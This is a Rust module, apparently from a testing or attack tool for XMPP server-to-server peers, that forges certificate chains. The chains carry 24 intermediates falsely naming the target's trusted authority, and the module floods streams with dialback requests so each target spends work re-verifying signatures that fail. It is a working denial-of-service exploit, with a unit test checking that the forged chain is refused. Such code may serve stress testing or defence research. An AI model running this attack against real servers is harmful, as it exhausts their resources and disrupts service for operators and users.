//! Certificates that are expensive to verify: many intermediates with one name and one key, each of which claims to be
//! issued by an authority that the target trusts. Every path through one of them has two signatures to verify, and
//! fails at the last.

use rcgen::{
    BasicConstraints, CertificateParams, DnType, IsCa, Issuer, KeyPair, KeyUsagePurpose,
    PKCS_ECDSA_P384_SHA384, SerialNumber,
};
use rustls::pki_types::CertificateDer;
use s2s_peer::authority::Identity;
use s2s_peer::error::{PeerError, Result};
use s2s_peer::unverified;

use super::aim::{Aim, Opened};
use super::connections::repeat;
use super::tally::Tally;

/// Number of intermediates after the leaf.
pub(crate) const INTERMEDIATES: u8 = 24;
/// Number of dialback requests on a stream. A target may verify the chain again for each.
const REQUESTS: usize = 16;

/// A certificate for that domain with its chain. `authority` is the issuer that the intermediates name, in PEM.
pub(crate) fn forged(domain: &str, authority: &str) -> Result<Identity> {
    let own_key = || KeyPair::generate_for(&PKCS_ECDSA_P384_SHA384);
    // The issuer has the authority's name and a different key.
    let named = Issuer::from_ca_cert_pem(authority, own_key()?)?;
    let key = own_key()?;
    let mut intermediates: Vec<CertificateDer<'static>> = Vec::new();
    let mut params = CertificateParams::default();
    params.distinguished_name.push(DnType::CommonName, "Intermediate");
    params.is_ca = IsCa::Ca(BasicConstraints::Unconstrained);
    params.key_usages = vec![KeyUsagePurpose::KeyCertSign];
    for number in 0..INTERMEDIATES {
        params.serial_number = Some(SerialNumber::from_slice(&[1, number]));
        intermediates.push(params.signed_by(&key, &named)?.der().clone());
    }
    let issuer = Issuer::from_params(&params, &key);
    let leaf_key = KeyPair::generate()?;
    let leaf = CertificateParams::new(vec![domain.to_owned()])?.signed_by(&leaf_key, &issuer)?;
    let identity = Identity::from_pem(&leaf.pem(), &leaf_key.serialize_pem())?;
    Ok(identity.with_intermediates(intermediates))
}

/// Opens streams with such a certificate. The header and every dialback request name its domain.
pub(super) fn chains(aim: &Aim, tally: &Tally) -> Result<()> {
    let missing = || PeerError::Script("the attack requires a CA (--authority)".to_owned());
    let authority = aim.authority.as_deref().ok_or_else(missing)?;
    repeat(aim, tally, |thread, time| {
        // A target may have cached the verdict on an earlier chain.
        let from = format!("c{thread}-{time}.{}", aim.from);
        let identity = forged(&from, authority)?;
        let tls = unverified::client(Some(&identity))?;
        let Opened { mut stream, .. } = aim.open(&from, &tls, tally)?;
        let request = format!("<db:result from='{from}' to='{}'>00</db:result>", aim.domain);
        for _ in 0..REQUESTS {
            if tally.is_over() {
                return Ok(());
            }
            stream.send(&request)?;
            tally.sent(request.len());
        }
        let answer = stream.element("the answer to a dialback request")?;
        tally.received(answer.to_string().len());
        Ok(())
    });
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use s2s_peer::authority::Authority;

    #[test]
    fn every_intermediate_leads_the_leaf_to_the_name_of_the_authority() {
        let authority = Authority::new("Trusted").unwrap();
        let forged = forged("x.example", &authority.certificate_pem()).unwrap();
        let chain = forged.chain();
        assert_eq!(chain.len(), usize::from(INTERMEDIATES) + 1);
        let leaf = webpki::EndEntityCert::try_from(&chain[0]).unwrap();
        let name = rustls::pki_types::ServerName::try_from("x.example").unwrap();
        leaf.verify_is_valid_for_subject_name(&name).unwrap();
        let roots = authority.roots().unwrap();
        let refused = leaf.verify_for_usage(
            rustls::crypto::aws_lc_rs::default_provider().signature_verification_algorithms.all,
            &roots.roots,
            &chain[1..],
            rustls::pki_types::UnixTime::now(),
            webpki::KeyUsage::client_auth(),
            None,
            None,
        );
        // The signatures of the intermediates are verified, and are not the authority's.
        assert!(refused.is_err());
    }
}
